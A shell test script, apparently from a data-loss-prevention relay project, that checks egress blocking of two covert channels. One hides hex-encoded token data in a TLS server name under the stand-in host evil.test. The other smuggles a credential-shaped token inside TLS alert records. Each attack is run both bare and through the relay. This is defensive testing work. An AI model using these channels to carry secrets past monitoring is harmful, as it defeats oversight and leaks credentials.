#!/bin/sh
# 403-relay-tls-keypath: what the key path forwarded unread (branch
# redteam-egress3): the ClientHello's server name, and alert records.
# 1. The TLS server name is judged. The key path forwards a hooked client's ClientHello
# as written, and its server name went out unjudged: python3 connecting to
# an allowed address with server_hostname="<hex of a token>.evil.test"
# delivered the hex to the server (and to any SNI-routing front on that
# address, which would forward the session to evil.test), where the CA
# path refuses a name the policy does not allow. Now the name is judged
# before the hello leaves: a name the broker resolved to the address
# passes, any other is judged as a lookup of it would be (policy, then the
# DNS exfiltration checks; event rule "... via tls-sni"). Seen failing with
# rl_tls_sni_gate() off: the hex and evil.test arrived, no event.
# Legitimate: a connection by name, an allowed name on a pinned address
# (python3, curl --resolve) still complete their request.
# 2. Alert records hold one alert. The key path forwarded alert records
# without a scan, whatever their length: python3 writing a raw plaintext
# record of type 21 after its hello, or one sealed with its session's own
# client key (a process can always log its keys) with inner type alert,
# carried a token past the relay (seen arriving with rl_alert_ok() off,
# no event). Now an egress alert record that is not 2 bytes resets the
# session (event "not one alert"); a clean request on such a session and
# the client's own close_notify still pass.
. "$(dirname "$0")/lib.sh"
dns_sandbox
need_relay
. "$top_srcdir/t/tls/lib-tls.sh"
command -v curl >/dev/null || skip "curl not installed"
make_ca

start_server recsrv.py 127.0.0.1 rec
start_https 127.0.0.1 web
C="python3 $top_srcdir/t/e2e/tls_sni.py"
J="--no-default-policy --relay --allow 127.0.0.1 --allow *.allowed.test --log $T/events.jsonl -q"
HEX=414b49415a3751483358354c54   # a token's first bytes, hex: no detector reads it
run() { : > "$T/events.jsonl"; out=$(timeout 20 "$DLPJAIL" $J -- "$@" 2>&1); sleep 0.3; }

out=$(timeout 20 $C 127.0.0.1 "$rec_PORT" "$HEX.evil.test" m0 2>&1)
sleep 0.3
check "bare: the server name reaches the recorder (the channel is real)" grep -q "$HEX" "$rec_LOG"

: > "$rec_LOG"
run $C 127.0.0.1 "$rec_PORT" "$HEX.evil.test" m1
check "python3 SNI <hex>.evil.test: the hello never arrives ($out)" \
	sh -c "! grep -q '$HEX' '$rec_LOG' && ! grep -q evil.test '$rec_LOG'"
check "...a deny event via tls-sni" event_has '"verdict":"deny"' 'via tls-sni'
check "...the event shows the name redacted" sh -c "! grep -q '$HEX' '$T/events.jsonl'"
check "...the program is told why" has "$out" 'server name not allowed'
run $C 127.0.0.1 "$rec_PORT" "$HEX.allowed.test" m2
check "python3 SNI <hex>.allowed.test (allowed zone, data-shaped): never arrives ($out)" \
	sh -c "! grep -q '$HEX' '$rec_LOG'"
check "...refused by the DNS checks" event_has '"verdict":"deny"' 'dns-.* via tls-sni'
run curl -sk --resolve "evil.test:$rec_PORT:127.0.0.1" "https://evil.test:$rec_PORT/m3"
check "curl --resolve evil.test (key path): the hello never arrives" \
	sh -c "! grep -q evil.test '$rec_LOG'"
check "...a deny event via tls-sni" event_has '"verdict":"deny"' 'via tls-sni'

run $C www.allowed.test "$web_PORT" www.allowed.test ok-by-name
check "python3 by name (SNI = the resolved name) arrives ($out)" grep -q "GET /ok-by-name" "$web_LOG"
run $C 127.0.0.1 "$web_PORT" far.allowed.test ok-pinned
check "python3 to an address, SNI an allowed name, arrives ($out)" grep -q "GET /ok-pinned" "$web_LOG"
run curl -sk --resolve "pin.allowed.test:$web_PORT:127.0.0.1" "https://pin.allowed.test:$web_PORT/ok-curl"
check "curl --resolve an allowed name arrives ($out)" grep -q "GET /ok-curl" "$web_LOG"
check "...with no refusal" sh -c "! grep -q '\"verdict\":\"deny\"' '$T/events.jsonl'"

# 2. alert records
TOKEN=AKIAZ7QH3MXR5TLB2WQE
python3 "$top_srcdir/t/e2e/tee_fwd.py" 127.0.0.1 "$T/tee.port" "$T/tee.log" "$web_PORT" &
PIDS="$PIDS $!"
i=0
while [ ! -s "$T/tee.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
TEE=$(cat "$T/tee.port")
touch "$T/tee.log"
python3 "$top_srcdir/t/e2e/tee_fwd.py" 127.0.0.1 "$T/mute.port" "$T/mute.log" 0 &
PIDS="$PIDS $!"
i=0
while [ ! -s "$T/mute.port" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
MUTE=$(cat "$T/mute.port")
touch "$T/mute.log"
A="python3 $top_srcdir/t/e2e/tls_alert.py"
sealed_seen() { python3 -c 'import sys; sys.exit(0 if b"\x17\x03\x03\x03\xf9" in open(sys.argv[1], "rb").read() else 1)' "$T/tee.log"; }
# a server that never answers: the hello's plaintext epoch goes on
out=$(timeout 20 $A plain "$MUTE" $TOKEN "$CA" 2>&1)
sleep 0.3
check "bare: a plaintext alert record carries the token ($out)" grep -q "$TOKEN" "$T/mute.log"
: > "$T/mute.log"
run $A plain "$MUTE" $TOKEN "$CA"
check "python3 plaintext alert record after the hello: the token never arrives ($out)" \
	sh -c "grep -q localhost '$T/mute.log' && ! grep -q '$TOKEN' '$T/mute.log'"
check "...refused with an event" event_has '"verdict":"deny"' 'not one alert'
if python3 -c 'import cryptography' 2>/dev/null; then
	: > "$T/tee.log"
	out=$(timeout 20 $A sealed "$TEE" $TOKEN "$CA" 2>&1)
	sleep 0.3
	check "bare: the sealed alert record reaches the server ($out)" sealed_seen
	: > "$T/tee.log"
	run $A sealed "$TEE" $TOKEN "$CA"
	check "python3 alert record sealed with its own key: it never arrives ($out)" \
		sh -c "! python3 -c 'import sys; sys.exit(0 if b\"\\x17\\x03\\x03\\x03\\xf9\" in open(sys.argv[1], \"rb\").read() else 1)' '$T/tee.log'"
	check "...refused with an event" event_has '"verdict":"deny"' 'not one alert'
else
	echo "# no python3-cryptography: the sealed alert record skipped"
fi
run $A clean "$TEE" $TOKEN "$CA"
check "the same TLS 1.3 session with a clean request still works ($out)" has "$out" '200 OK'
check "...its close_notify (an alert) passes: no refusal" sh -c "! grep -q '\"verdict\":\"deny\"' '$T/events.jsonl'"
finish
